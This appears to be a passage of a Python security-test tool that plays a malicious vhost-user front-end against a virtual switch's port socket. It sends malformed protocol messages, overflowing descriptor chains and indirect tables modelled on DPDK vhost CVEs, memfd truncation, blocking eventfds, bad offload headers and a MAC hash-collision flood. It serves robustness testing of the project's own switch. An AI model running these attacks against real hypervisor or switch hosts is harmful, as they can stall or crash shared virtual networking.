"""A hostile vhost-user front-end: attacks a vswitchd port socket the way a
compromised QEMU or a malicious virtio-user container could.

    python -m tools.hostile --socket /run/vswitch/vm3.sock --attack looping-chain
    python -m tools.hostile --socket S --all [--dst-mac 02:00:00:00:0c:ff] [--hold 1]
    python -m tools.hostile --list
    python -m tools.hostile --socket S --attack mac-hash-flood --victim-mac 52:54:00:00:00:01 \
        --control /run/vswitch/vswitchd.sock --port vm3      # and print vm3's counter changes

The switch owns the socket (a port in server mode); every attack opens its
own connection, does its damage, keeps the hostile state for --hold seconds
and disconnects.  Each prints one line, `NAME: what was done; what the switch
did as seen from the front-end` (frames consumed or not, requests refused,
connection closed).  The switch's own account is in `vswitchctl --json show
PORT` (errors, drops, protocol_errors, ...): read it before and after.

Frames are addressed to their own source MAC, so a switch that takes them
learns the address on the attacking port and drops them there (nothing
reaches other ports), except frames whose virtio-net header matters
(bad-offload, cve-2022-2132, cve-2024-11614): those go to --dst-mac, which
a test points at a TAP port with a static fdb entry.

Exit status: 0 when every attack was carried out (whatever the switch did),
1 when one could not be (no connection, a handshake refused before the
attack point, the time limit), 2 on a usage error.

The CVE attacks are the closest equivalents, against this switch's engine
and protocol handling, of the published DPDK vhost advisories:
CVE-2020-10722 (an integer overflow in a mapping size: here descriptor
lengths near 2^32, addresses that wrap, and SET_LOG_BASE sizes that
overflow), CVE-2020-10723 (a vring index truncated to 16 bits; a chain index
past the ring), CVE-2020-10724/10725 (unvalidated descriptors and indirect
tables: bad lengths, nesting, tables outside or across guest memory),
CVE-2020-10726 (a flood of GET_INFLIGHT_FD leaking resources; ring sizes 0
or oversized), CVE-2022-2132 (a virtio-net header split over tiny
descriptors so its copy overruns), CVE-2024-11614 (a forged header whose
checksum and length fields point out of the packet).
"""

from __future__ import annotations

import argparse
import fcntl
import os
import select
import signal
import socket
import struct
import sys
import threading
import time
from dataclasses import dataclass
from typing import Callable

from tests.support.frontend import DRIVER_FEATURES, BackendClosed, RequestFailed, VhostUserFrontend
from tests.support.virtio_driver import (
    NET_HDR, VIRTQ_DESC_F_INDIRECT, VIRTQ_DESC_F_NEXT, VIRTQ_DESC_F_WRITE, PackedChain, PackedQueue, SplitQueue,
)
from vswitch.vhost import protocol
from vswitch.vhost.protocol import Request, bits

ATTACKER_MAC = bytes.fromhex("02000000c001")
DEFAULT_DST_MAC = "02:00:00:00:0c:ff"
# The FIB of vswitch/fib/fib.c: capacity 1 << 16 entries, twice as many buckets.
DEFAULT_FIB_BUCKETS = 1 << 17
FIB_MULTIPLIER = 0x9E3779B97F4A7C15
TIB = 1 << 40
F_SETPIPE_SZ = 1031
EVENTFD_MAX = 0xFFFFFFFFFFFFFFFE
VIRTIO_NET_HDR_F_NEEDS_CSUM = 1
GSO_TCPV4, GSO_UDP, GSO_TCPV6 = 1, 3, 4
OFFLOAD_FEATURES = bits(protocol.VIRTIO_NET_F_CSUM, protocol.VIRTIO_NET_F_HOST_TSO4,
                        protocol.VIRTIO_NET_F_HOST_TSO6)


class AttackError(Exception):
    """The attack could not be carried out (not: the switch refused it)."""


class AttackTimeout(AttackError):
    pass


@dataclass
class Attack:
    name: str
    group: str
    description: str
    run: Callable[["Context"], str]


ATTACKS: dict[str, Attack] = {}
# --all and --list go from what a switch survives by design to what may stall
# or kill it, so that one run reports as much as it can.
GROUPS = ("ring", "packed", "cve", "protocol", "mac-table", "offload", "fds", "memory")
# Within a group, these go last: before issue 8's fixes they stall or kill the switch.
DEADLY = ("blocking-callfd", "truncate-before-start", "truncate-running")


def attack(name: str, group: str, description: str):
    assert group in GROUPS, group

    def register(func):
        ATTACKS[name] = Attack(name, group, description, func)
        return func
    return register


def ordered_attacks() -> list[Attack]:
    return sorted(ATTACKS.values(), key=lambda a: (GROUPS.index(a.group), a.name in DEADLY))


def parse_mac(text: str) -> bytes:
    raw = bytes.fromhex(text.replace(":", "").replace("-", ""))
    if len(raw) != 6:
        raise argparse.ArgumentTypeError(f"bad MAC address {text!r}")
    return raw


def eth_frame(dst: bytes, src: bytes, payload: bytes = b"h" * 50, ethertype: int = 0x0800) -> bytes:
    return dst + src + struct.pack("!H", ethertype) + payload


def tcp4_frame(dst: bytes, src: bytes, payload_len: int = 1000) -> bytes:
    """A plausible IPv4/TCP frame, so that only the virtio-net header is wrong."""
    tcp = struct.pack("!HHIIBBHHH", 40000, 80, 1, 0, 5 << 4, 0x18, 65535, 0, 0)
    total = 20 + len(tcp) + payload_len
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 1, 0x4000, 64, 6, 0,
                     bytes([10, 99, 0, 1]), bytes([10, 99, 0, 2]))
    return eth_frame(dst, src, ip + tcp + b"p" * payload_len)


def net_hdr(hdr_len: int, *, flags: int = 0, gso_type: int = 0, hdr_len_field: int = 0, gso_size: int = 0,
            csum_start: int = 0, csum_offset: int = 0) -> bytes:
    hdr = NET_HDR.pack(flags, gso_type, hdr_len_field, gso_size, csum_start, csum_offset)
    return hdr + b"\0\0" * (hdr_len == 12)


class Context:
    """What every attack gets: where to connect and how long to stay."""

    def __init__(self, args):
        self.socket = args.socket
        self.hold = args.hold
        self.dst_mac = args.dst_mac
        self.count = args.count
        self.fib_buckets = args.fib_buckets
        self.victim_mac = args.victim_mac
        self.open: list[VhostUserFrontend] = []
        self.extra_fds: list[int] = []

    # -- front-ends
    def frontend(self, **options) -> VhostUserFrontend:
        options.setdefault("timeout", 5.0)
        fe = VhostUserFrontend(self.socket, **options)
        self.open.append(fe)
        try:
            fe.connect()
        except OSError as exc:
            raise AttackError(f"cannot connect to {self.socket}: {exc}") from None
        return fe

    def guest(self, **options) -> VhostUserFrontend:
        """A front-end past the whole handshake, with receive buffers posted."""
        fe = self.frontend(**options)
        try:
            fe.handshake()
        except (BackendClosed, RequestFailed, OSError) as exc:
            raise AttackError(f"handshake failed: {exc}") from None
        fe.post_rx(0, 32)
        return fe

    def fd(self, fd: int) -> int:
        self.extra_fds.append(fd)
        return fd

    def close(self) -> None:
        for fe in self.open:
            try:
                fe.close()
            except OSError:
                pass
        for fd in self.extra_fds:
            try:
                os.close(fd)
            except OSError:
                pass
        self.open, self.extra_fds = [], []

    def hold_state(self) -> None:
        time.sleep(self.hold)


# ---------------------------------------------------------------- observation

def is_closed(fe: VhostUserFrontend, wait: float = 0.0) -> bool:
    """True if the switch has closed this connection (within `wait` seconds)."""
    if fe.sock is None:
        return True
    return fe.wait_closed(wait) if wait else _closed_now(fe)


def _closed_now(fe: VhostUserFrontend) -> bool:
    ready, _, _ = select.select([fe.sock], [], [], 0)
    if not ready:
        return False
    try:
        return fe.sock.recv(1, socket.MSG_PEEK) == b""
    except ConnectionResetError:
        return True


def wait_used(ring: SplitQueue, heads: set[int], timeout: float) -> dict[int, int]:
    """Used entries (head -> length) of the given heads that the switch returns in time."""
    seen: dict[int, int] = {}
    deadline = time.monotonic() + timeout
    while True:
        for id_, length in ring.get_used():
            seen[id_] = length
        if heads <= seen.keys() or time.monotonic() > deadline:
            return seen
        time.sleep(0.002)


def probe(fe: VhostUserFrontend, timeout: float = 1.0) -> str:
    """Sends one good frame: is the TX ring still served?"""
    if is_closed(fe):
        return "connection closed by the switch"
    ring = fe.tx_ring(0)
    try:
        head = fe.send_frame(0, eth_frame(ATTACKER_MAC, ATTACKER_MAC))
    except (BackendClosed, OSError, RuntimeError) as exc:
        return f"probe not sent ({exc})"
    if head in wait_used(ring, {head}, timeout):
        return "ring still served"
    return "connection closed by the switch" if is_closed(fe) else "ring stopped"


def take_high(ring: SplitQueue, n: int) -> list[int]:
    """Descriptor indexes for raw chains, from the top of the table, out of the
    well-behaved allocator's way (it hands out the lowest ones)."""
    taken = ring._free_descs[-n:]
    del ring._free_descs[-n:]
    return taken


def inject_chains(ctx: Context, what: str, build: Callable[[VhostUserFrontend, SplitQueue], list[int]],
                  **guest_options) -> str:
    """Runs `build` (which writes raw descriptors and publishes heads) on a
    fresh guest's TX ring, kicks, and reports what came back."""
    fe = ctx.guest(**guest_options)
    ring = fe.tx_ring(0)
    heads = build(fe, ring)
    fe.kick(ring.index)
    used = wait_used(ring, set(heads), 1.0)
    returned = sum(1 for h in heads if h in used)
    ctx.hold_state()
    return f"{what}; {returned}/{len(heads)} chains returned, {probe(fe)}"


def publish(ring: SplitQueue, *heads: int) -> list[int]:
    for head in heads:
        ring.publish_raw(head)
    return list(heads)


def buf(fe: VhostUserFrontend, data: bytes) -> int:
    gpa = fe.mem.alloc(len(data), 8)
    fe.mem.write(gpa, data)
    return gpa


def good_packet(fe: VhostUserFrontend, dst: bytes = ATTACKER_MAC) -> bytes:
    return fe.tx_ring(0).net_header() + eth_frame(dst, ATTACKER_MAC)


# -------------------------------------------------------------------- memory

@attack("truncate-running", "memory", "ftruncate the guest memfd to 0 while the rings run")
def truncate_running(ctx: Context) -> str:
    fe = ctx.guest()
    fe.send_frame(0, eth_frame(ATTACKER_MAC, ATTACKER_MAC))
    fe.wait_tx_done(0, 2.0)
    os.ftruncate(fe.mem.fd, 0)
    # Our own mapping is now a trap too: from here on, touch no guest memory.
    for index in range(len(fe.rings)):
        fe.kick(index)
    closed = is_closed(fe, max(ctx.hold, 2.0))
    return ("memfd truncated to 0 with rings running; "
            + ("the connection ended (closed or the switch died)" if closed else "the connection stayed open"))


@attack("truncate-before-start", "memory", "ftruncate the guest memfd after SET_MEM_TABLE, before the rings start")
def truncate_before_start(ctx: Context) -> str:
    fe = ctx.frontend()
    try:
        fe.handshake(stop_before=Request.SET_VRING_ENABLE)
    except (BackendClosed, RequestFailed) as exc:
        raise AttackError(f"handshake failed: {exc}") from None
    os.ftruncate(fe.mem.fd, 0)
    try:
        for ring in fe.rings:
            fe.set_vring_enable(ring.index, True)
        fe.set_u64(Request.SET_STATUS, 0xF)
        outcome = "rings enabled"
    except RequestFailed as exc:
        outcome = f"refused ({exc})"
    except BackendClosed:
        outcome = "the connection ended (closed or the switch died)"
    except OSError as exc:
        outcome = f"no answer ({exc})"
    closed = is_closed(fe, max(ctx.hold, 1.0))
    return f"memfd truncated to 0 after SET_MEM_TABLE; {outcome}; " + (
        "connection closed" if closed else "connection still open")


@attack("huge-region", "memory", "a SET_MEM_TABLE region of 4 TiB on a sparse memfd")
def huge_region(ctx: Context) -> str:
    fe = ctx.frontend()
    huge = 4 * TIB
    os.ftruncate(fe.mem.fd, huge)
    base = fe.mem.gpa_base
    fe.memory_regions = lambda: [protocol.MemoryRegion(base, huge, fe.mem.gpa_to_uva(base), 0)]
    try:
        fe.handshake()
    except RequestFailed as exc:
        return f"4 TiB region offered; refused ({exc})"
    except BackendClosed:
        return "4 TiB region offered; the switch closed the connection"
    fe.post_rx(0, 8)
    ctx.hold_state()
    return f"4 TiB region offered; accepted, {probe(fe)}"


# ----------------------------------------------------------------------- fds

def replace_fd(fe: VhostUserFrontend, request: Request, index: int, fd: int) -> str | None:
    """Sends SET_VRING_CALL/KICK with a new fd; returns why it failed, or None."""
    try:
        fe.request(request, protocol.pack_vring_fd(index), [fd])
        return None
    except RequestFailed as exc:
        return f"refused ({exc})"
    except BackendClosed:
        return "the switch closed the connection"


def notify_until_stuck(fe: VhostUserFrontend, frames: int) -> str:
    """Sends frames one at a time, each its own burst and so its own notification."""
    ring = fe.tx_ring(0)
    for n in range(frames):
        if is_closed(fe):
            return f"the switch closed the connection after {n} frames"
        head = fe.send_frame(0, eth_frame(ATTACKER_MAC, ATTACKER_MAC))
        if head not in wait_used(ring, {head}, 1.0):
            return f"the switch stopped consuming after {n} frames"
    return f"all {frames} frames consumed"


def make_blocking(fd: int) -> None:
    """Clears O_NONBLOCK on the file description we share with the switch: a
    back-end that set it when it got the fd does not keep it."""
    fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) & ~os.O_NONBLOCK)


def callfd_attack(ctx: Context, fd: int, what: str, after_handover: Callable[[int], None],
                  frames: int = 600) -> str:
    # Without EVENT_IDX, every published burst is a notification.
    fe = ctx.guest(features=DRIVER_FEATURES & ~bits(protocol.VIRTIO_RING_F_EVENT_IDX))
    for ring in fe.rings:
        failed = replace_fd(fe, Request.SET_VRING_CALL, ring.index, fd)
        if failed:
            ctx.hold_state()
            return f"{what} as call fd: {failed}"
    after_handover(fd)
    outcome = notify_until_stuck(fe, frames)
    ctx.hold_state()
    return f"{what} as call fd of every ring; {outcome}"


@attack("pipe-callfd", "fds", "the write end of a 4 KiB pipe, never read, as call fd")
def pipe_callfd(ctx: Context) -> str:
    rd, wr = os.pipe2(os.O_CLOEXEC)
    ctx.fd(rd), ctx.fd(wr)
    fcntl.fcntl(wr, F_SETPIPE_SZ, 4096)
    return callfd_attack(ctx, wr, "pipe (4096 bytes)", make_blocking)


@attack("blocking-callfd", "fds", "a blocking eventfd saturated at 0xfffffffffffffffe as call fd")
def blocking_callfd(ctx: Context) -> str:
    fd = ctx.fd(os.eventfd(0, os.EFD_CLOEXEC | os.EFD_NONBLOCK))

    def saturate(fd):
        # Non-blocking while we fill it (the switch may have written already), then blocking.
        fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_NONBLOCK)
        try:
            os.eventfd_read(fd)
        except BlockingIOError:
            pass
        os.eventfd_write(fd, EVENTFD_MAX)
        make_blocking(fd)

    return callfd_attack(ctx, fd, "saturated blocking eventfd", saturate, frames=50)


@attack("blocking-kickfd", "fds", "a blocking kick eventfd that the front-end keeps draining")
def blocking_kickfd(ctx: Context) -> str:
    fe = ctx.guest()
    fd = ctx.fd(os.eventfd(0, os.EFD_CLOEXEC))
    for ring in fe.rings:
        failed = replace_fd(fe, Request.SET_VRING_KICK, ring.index, fd)
        if failed:
            ctx.hold_state()
            return f"blocking eventfd as kick fd: {failed}"
    make_blocking(fd)
    # Kick and drain at once, so that a back-end that waits on the fd and then
    # reads it blocks.  A blocking read here could hang: drain from a thread.
    stop = threading.Event()
    drained = [0]

    def drain():
        while not stop.is_set():
            ready, _, _ = select.select([fd], [], [], 0.05)
            if ready:
                os.eventfd_read(fd)
                drained[0] += 1

    drainer = threading.Thread(target=drain, daemon=True)
    drainer.start()
    kicks = 0
    deadline = time.monotonic() + max(ctx.hold, 0.5)
    while time.monotonic() < deadline:
        os.eventfd_write(fd, 1)
        kicks += 1
        time.sleep(0.001)
    stop.set()
    drainer.join(0.5)
    return f"blocking eventfd as kick fd; {kicks} kicks written, {drained[0]} drained by us; {probe(fe)}"


# ----------------------------------------------------------------- MAC table

def old_bucket(mac: bytes, buckets: int) -> int:
    """The bucket of a MAC (VLAN 0) under the old hash, as vs_fib_key and bucket_of computed it."""
    key = int.from_bytes(mac, "big")
    return ((key * FIB_MULTIPLIER) % (1 << 64)) >> 32 & (buckets - 1)


def colliding_macs(count: int, buckets: int, bucket: int = 0x1234) -> list[bytes]:
    """Unicast MACs that all land in one bucket of the unkeyed hash
    (key * FIB_MULTIPLIER >> 32) & (buckets - 1), with key the MAC as a
    48-bit number.  Only bits 32 .. 32+log2(buckets) of the product matter,
    so work modulo 2^m: key_i = (bucket << 32 + i) * inverse(multiplier)."""
    m = 32 + (buckets - 1).bit_length()
    modulus = 1 << m
    inverse = pow(FIB_MULTIPLIER, -1, modulus)
    bucket &= buckets - 1
    out = []
    i = 1
    while len(out) < count:
        key = (((bucket << 32) + i) * inverse) % modulus
        i += 1
        if key >> 48 or (key >> 40) & 1 or key == 0:
            continue        # not 48 bits, or a multicast address
        out.append(key.to_bytes(6, "big"))
    assert all(old_bucket(m, buckets) == bucket for m in out)
    return out


def send_many(fe: VhostUserFrontend, frames: list[bytes], batch: int = 128) -> int:
    """Sends frames in batches, reclaiming between them; returns how many were consumed."""
    ring = fe.tx_ring(0)
    consumed = 0
    for start in range(0, len(frames), batch):
        heads = {ring.post_tx(f) for f in frames[start:start + batch]}
        fe.kick(ring.index)
        got = wait_used(ring, heads, 2.0)
        consumed += len(heads & got.keys())
        if len(got) < len(heads):
            break
    return consumed


@attack("mac-hash-flood", "mac-table",
        "thousands of source MACs in one bucket of the old unkeyed FIB hash (--victim-mac's bucket)")
def mac_hash_flood(ctx: Context) -> str:
    fe = ctx.guest()
    # In the victim's bucket, every learn and lookup of the victim's MAC walks the whole chain.
    bucket = old_bucket(ctx.victim_mac, ctx.fib_buckets) if ctx.victim_mac else 0x1234
    macs = colliding_macs(ctx.count, ctx.fib_buckets, bucket)
    started = time.monotonic()
    # Each frame is addressed to its own source: learned, then looked up, then dropped.
    consumed = send_many(fe, [eth_frame(m, m) for m in macs])
    took = time.monotonic() - started
    ctx.hold_state()
    return (f"{len(macs)} source MACs in bucket {bucket:#x} of {ctx.fib_buckets} (old hash); {consumed} frames "
            f"consumed in {took:.2f} s ({consumed / max(took, 1e-6):.0f} frames/s)")


# ------------------------------------------------------------------ offloads

def bad_offload_headers(hdr_len: int, frame_len: int) -> list[tuple[str, bytes]]:
    csum = VIRTIO_NET_HDR_F_NEEDS_CSUM
    return [
        ("csum_start past the frame", net_hdr(hdr_len, flags=csum, csum_start=frame_len + 10, csum_offset=6)),
        ("csum_offset past the frame", net_hdr(hdr_len, flags=csum, csum_start=34, csum_offset=frame_len)),
        ("csum field straddling the end", net_hdr(hdr_len, flags=csum, csum_start=frame_len - 1,
                                                  csum_offset=0)),
        ("gso_size 0", net_hdr(hdr_len, flags=csum, gso_type=GSO_TCPV4, hdr_len_field=54, gso_size=0,
                               csum_start=34, csum_offset=16)),
        ("gso_size 65535", net_hdr(hdr_len, flags=csum, gso_type=GSO_TCPV4, hdr_len_field=54,
                                   gso_size=65535, csum_start=34, csum_offset=16)),
        ("hdr_len larger than the frame", net_hdr(hdr_len, flags=csum, gso_type=GSO_TCPV4,
                                                  hdr_len_field=frame_len + 100, gso_size=100,
                                                  csum_start=34, csum_offset=16)),
        ("TCPv6 GSO on an IPv4 frame", net_hdr(hdr_len, flags=csum, gso_type=GSO_TCPV6, hdr_len_field=54,
                                               gso_size=100, csum_start=34, csum_offset=16)),
        ("UDP GSO on a TCP frame", net_hdr(hdr_len, flags=csum, gso_type=GSO_UDP, hdr_len_field=42,
                                           gso_size=100, csum_start=34, csum_offset=6)),
        ("GSO without NEEDS_CSUM", net_hdr(hdr_len, gso_type=GSO_TCPV4, hdr_len_field=54, gso_size=100)),
        ("unknown GSO type 0x42", net_hdr(hdr_len, flags=csum, gso_type=0x42, hdr_len_field=54,
                                          gso_size=100, csum_start=34, csum_offset=16)),
    ]


@attack("bad-offload", "offload", "frames with impossible checksum/GSO virtio-net headers, to --dst-mac")
def bad_offload(ctx: Context) -> str:
    fe = ctx.guest(features=DRIVER_FEATURES | OFFLOAD_FEATURES)
    frame = tcp4_frame(ctx.dst_mac, ATTACKER_MAC)
    ring = fe.tx_ring(0)
    heads = set()
    cases = bad_offload_headers(fe.hdr_len, len(frame))
    for _what, header in cases:
        heads.add(ring.post_tx(frame, header=header))
    fe.kick(ring.index)
    used = wait_used(ring, heads, 1.0)
    ctx.hold_state()
    return (f"{len(cases)} frames with bad offload headers ({', '.join(w for w, _ in cases)}) to "
            f"{ctx.dst_mac.hex(':')}; {len(used)} consumed, {probe(fe)}")


# ------------------------------------------------------------------ protocol

def refused_flood(fe: VhostUserFrontend, messages: list[tuple[int, bytes]], window: int = 32) -> str:
    """Sends NEED_REPLY requests the switch should refuse, `window` at a time;
    reports how many were refused, accepted, and whether it hung up."""
    refused = accepted = sent = 0
    flags = protocol.VERSION | protocol.FLAG_NEED_REPLY
    try:
        for start in range(0, len(messages), window):
            chunk = messages[start:start + window]
            for request, payload in chunk:
                fe.send_message(request, payload, flags=flags)
                sent += 1
            for request, _payload in chunk:
                header = fe._recv_exact(protocol.HEADER_SIZE, "an ack")
                size = protocol.HEADER.unpack(header)[2]
                body = fe._recv_exact(size, "an ack")
                if size == 8 and protocol.U64.unpack(body)[0] == 0:
                    accepted += 1
                else:
                    refused += 1
    except (BackendClosed, OSError) as exc:
        return f"{sent} sent, {refused} refused, {accepted} accepted, then the connection ended ({exc})"
    return f"{sent} sent, {refused} refused, {accepted} accepted, connection kept"


@attack("message-flood", "protocol", "thousands of NEED_REPLY requests the switch refuses")
def message_flood(ctx: Context) -> str:
    fe = ctx.frontend()
    fe.handshake(stop_before=Request.SET_FEATURES)
    kinds = [(Request.SET_VRING_ENDIAN, protocol.pack_vring_state(0, 0)), (99, b""), (Request.GET_INFLIGHT_FD, b"")]
    messages = [kinds[i % len(kinds)] for i in range(max(ctx.count // 2, 1))]
    return "refused-request flood: " + refused_flood(fe, messages)


def one_message_each(ctx: Context, cases: list[tuple[str, Callable[[VhostUserFrontend], None]]],
                     stop_before: Request | None = Request.SET_FEATURES) -> str:
    """One connection per malformed message; reports how the switch answered each."""
    results = []
    for what, send in cases:
        fe = ctx.frontend()
        try:
            if stop_before is not None:
                fe.handshake(stop_before=stop_before)
            send(fe)
            fe.sync()
            outcome = "accepted"
        except RequestFailed:
            outcome = "refused"
        except BackendClosed:
            outcome = "closed"
        except (OSError, protocol.ProtocolError) as exc:
            outcome = "closed" if is_closed(fe, 0.5) else f"no answer ({exc})"
        results.append(f"{what}: {outcome}")
        fe.close()
        ctx.open.remove(fe)
    return "; ".join(results)


@attack("malformed-messages", "protocol", "bad versions, flags, sizes and fd counts in message headers")
def malformed_messages(ctx: Context) -> str:
    u64 = protocol.pack_u64(0)
    ack = protocol.VERSION | protocol.FLAG_NEED_REPLY

    def with_fds(n, request=Request.SET_FEATURES, payload=u64):
        def send(fe):
            fds = [os.eventfd(0) for _ in range(n)]
            try:
                fe.send_message(request, payload, fds, flags=ack)
            finally:
                for fd in fds:
                    os.close(fd)
            fe.recv_reply(request)
        return send

    cases = [
        ("version 0", lambda fe: fe.send_message(Request.GET_FEATURES, flags=0)),
        ("version 3", lambda fe: fe.send_message(Request.GET_FEATURES, flags=3)),
        ("reply flag on a request", lambda fe: fe.send_message(Request.GET_FEATURES,
                                                               flags=protocol.VERSION | protocol.FLAG_REPLY)),
        ("unknown flag bits", lambda fe: fe.send_message(Request.GET_FEATURES, flags=protocol.VERSION | 0xF000)),
        ("size field 0xffffffff", lambda fe: fe.send_message(Request.SET_FEATURES, u64, size=0xFFFFFFFF)),
        ("u64 payload of 4 bytes", lambda fe: fe.send_message(Request.SET_FEATURES, b"\0" * 4, flags=ack)),
        ("fd on a request without fds", with_fds(1)),
        ("9 fds on SET_VRING_KICK", with_fds(9, Request.SET_VRING_KICK, protocol.pack_vring_fd(0))),
        ("vring fd with unknown bits", lambda fe: fe.send_message(
            Request.SET_VRING_CALL, protocol.pack_u64(1 << 40), flags=ack)),
    ]
    return one_message_each(ctx, cases)


def mem_table_case(regions, nfds=None, fd_size=8 << 20):
    def send(fe):
        fd = os.memfd_create("hostile", os.MFD_CLOEXEC)
        try:
            os.ftruncate(fd, fd_size)
            payload = protocol.MEMORY_HEADER.pack(len(regions), 0) + b"".join(
                protocol.MEMORY_REGION.pack(*r) for r in regions)
            count = len(regions) if nfds is None else nfds
            fe.send_message(Request.SET_MEM_TABLE, payload, [fd] * count,
                            flags=protocol.VERSION | protocol.FLAG_NEED_REPLY)
        finally:
            os.close(fd)
        if protocol.U64.unpack(fe.recv_reply(Request.SET_MEM_TABLE))[0]:
            raise RequestFailed("SET_MEM_TABLE")
    return send


@attack("bad-mem-table", "protocol", "memory tables with wrapping, overlapping, oversized or missing regions")
def bad_mem_table(ctx: Context) -> str:
    mib = 1 << 20
    top = (1 << 64) - mib
    cases = [
        ("size 0", mem_table_case([(0, 0, 0x7F0000000000, 0)])),
        ("guest address wraps", mem_table_case([(top, 2 * mib, 0x7F0000000000, 0)])),
        ("user address wraps", mem_table_case([(0, 2 * mib, top, 0)])),
        ("mmap offset wraps", mem_table_case([(0, 2 * mib, 0x7F0000000000, top)])),
        ("region past the end of the file", mem_table_case([(0, 64 * mib, 0x7F0000000000, 0)])),
        ("offset past the end of the file", mem_table_case([(0, mib, 0x7F0000000000, 16 * mib)])),
        ("overlapping regions", mem_table_case([(0, 4 * mib, 0x7F0000000000, 0),
                                                (2 * mib, 4 * mib, 0x7F0000200000, 0)])),
        ("9 regions", mem_table_case([(i * mib, mib, 0x7F0000000000 + i * mib, 0) for i in range(9)])),
        ("fewer fds than regions", mem_table_case([(0, mib, 0x7F0000000000, 0),
                                                   (mib, mib, 0x7F0000100000, 0)], nfds=1)),
    ]
    return one_message_each(ctx, cases)


def vring_case(request: Request, payload: bytes, fds: int = 0):
    def send(fe):
        handles = [os.eventfd(0) for _ in range(fds)]
        try:
            fe.request(request, payload, handles)
        finally:
            for fd in handles:
                os.close(fd)
    return send


@attack("bad-vring-messages", "protocol",
        "vring indexes past the queues, ring addresses outside guest memory or misaligned")
def bad_vring_messages(ctx: Context) -> str:
    def addr_case(delta_desc=0, delta_used=0, delta_avail=0, absolute=None):
        def send(fe):
            ring = fe.rings[0]
            fe.request(Request.SET_VRING_NUM, protocol.pack_vring_state(0, ring.size))
            desc, used, avail = absolute or (ring.desc_uva + delta_desc, ring.used_uva + delta_used,
                                             ring.avail_uva + delta_avail)
            fe.request(Request.SET_VRING_ADDR, protocol.pack_vring_addr(0, desc, used, avail))
            fe.request(Request.SET_VRING_KICK, protocol.pack_vring_fd(0), [fe.kickfds[0]])
            fe.request(Request.SET_VRING_CALL, protocol.pack_vring_fd(0), [fe.callfds[0]])
            fe.set_vring_enable(0, True)
        return send

    end = 8 << 20
    cases = [
        ("SET_VRING_NUM index 200", vring_case(Request.SET_VRING_NUM, protocol.pack_vring_state(200, 256))),
        ("SET_VRING_KICK index 31", vring_case(Request.SET_VRING_KICK, protocol.pack_vring_fd(31), 1)),
        ("descriptor table past the end of memory", addr_case(delta_desc=end)),
        ("used ring straddling the end of memory", addr_case(absolute=(0x100000, 0x100000 + end - 8, 0x104000))),
        ("misaligned descriptor table", addr_case(delta_desc=8)),
        ("ring address 2^64 - 16", addr_case(absolute=((1 << 64) - 16, 0x101000, 0x102000))),
    ]
    return one_message_each(ctx, cases, stop_before=Request.SET_VRING_NUM)


# ---------------------------------------------------------------- the CVEs

@attack("cve-2020-10722", "cve", "descriptor lengths near 2^32 and buffer addresses that wrap (address translation)")
def cve_2020_10722(ctx: Context) -> str:
    def build(fe, ring):
        mem_end = fe.mem.gpa_base + fe.mem.size
        d = take_high(ring, 4)
        pkt = buf(fe, good_packet(fe))
        ring.write_desc(d[0], pkt, 0xFFFFFFFF)                  # len near 2^32 from a valid address
        ring.write_desc(d[1], (1 << 64) - 0x800, 0x1000)        # addr + len wraps past 2^64
        ring.write_desc(d[2], mem_end - 16, 0xFFFFFFF0)         # addr + len wraps 32 bits past the region
        ring.write_desc(d[3], pkt, 0xFFFFFF00, VIRTQ_DESC_F_NEXT, d[0])  # 2 x ~4 GiB: total overflows 32 bits
        return publish(ring, *d)
    return inject_chains(ctx, "4 chains with lengths near 2^32 / wrapping addresses", build)


@attack("cve-2020-10722-log-base", "cve", "SET_LOG_BASE with a mapping size and offset that overflow")
def cve_2020_10722_log_base(ctx: Context) -> str:
    def log_base(size, offset):
        def send(fe):
            fd = os.memfd_create("hostile-log", os.MFD_CLOEXEC)
            try:
                fe.request(Request.SET_LOG_BASE, struct.pack("=QQ", size, offset), [fd], need_reply=True)
            finally:
                os.close(fd)
        return send
    return one_message_each(ctx, [("log size 2^64-1", log_base((1 << 64) - 1, 0)),
                                  ("size + offset wraps", log_base(1 << 63, 1 << 63))],
                            stop_before=Request.SET_MEM_TABLE)


@attack("cve-2020-10723", "cve", "vring indexes whose low 16 bits are valid (index truncation)")
def cve_2020_10723(ctx: Context) -> str:
    cases = [
        ("SET_VRING_NUM index 0x10001", vring_case(Request.SET_VRING_NUM, protocol.pack_vring_state(0x10001, 256))),
        ("SET_VRING_BASE index 0x80000000", vring_case(Request.SET_VRING_BASE,
                                                       protocol.pack_vring_state(0x80000000, 0))),
        ("SET_VRING_ENABLE index 0xffff0000", vring_case(Request.SET_VRING_ENABLE,
                                                         protocol.pack_vring_state(0xFFFF0000, 1))),
        ("GET_VRING_BASE index 0x10000", lambda fe: fe.get_vring_base(0x10000)),
    ]
    return one_message_each(ctx, cases, stop_before=Request.SET_VRING_NUM)


@attack("cve-2020-10723-chain", "cve", "descriptor chains whose next index lies past the ring")
def cve_2020_10723_chain(ctx: Context) -> str:
    def build(fe, ring):
        d = take_high(ring, 2)
        pkt = buf(fe, good_packet(fe))
        ring.write_desc(d[0], pkt, 8, VIRTQ_DESC_F_NEXT, ring.size)       # next = size
        ring.write_desc(d[1], pkt, 8, VIRTQ_DESC_F_NEXT, 0xFFFF)          # next = 65535
        return publish(ring, *d)
    return inject_chains(ctx, "2 chains with next past the ring (256, 65535)", build)


def indirect(fe, ring, d, table_gpa, length):
    ring.write_desc(d, table_gpa, length, VIRTQ_DESC_F_INDIRECT)
    return d


@attack("cve-2020-10724", "cve", "indirect tables with lengths 0, odd, huge or longer than the ring")
def cve_2020_10724(ctx: Context) -> str:
    def build(fe, ring):
        pkt = good_packet(fe)
        table = ring.write_indirect_table([(buf(fe, pkt), len(pkt), 0, 0)] * 4)
        d = take_high(ring, 5)
        big = ring.write_indirect_table([(buf(fe, pkt), len(pkt), 0, 0)] * (ring.size + 1))
        indirect(fe, ring, d[0], table, 0)
        indirect(fe, ring, d[1], table, 20)
        indirect(fe, ring, d[2], table, 0xFFFFFFF0)
        indirect(fe, ring, d[3], big, 16 * (ring.size + 1))
        # An entry in a valid table whose next lies past the table.
        bad_next = ring.write_indirect_table([(buf(fe, pkt), 4, VIRTQ_DESC_F_NEXT, 7), (0, 0, 0, 0)])
        indirect(fe, ring, d[4], bad_next, 32)
        return publish(ring, *d)
    return inject_chains(ctx, "5 indirect tables: length 0, 20, 0xfffffff0, ring+1 entries, next past table",
                         build)


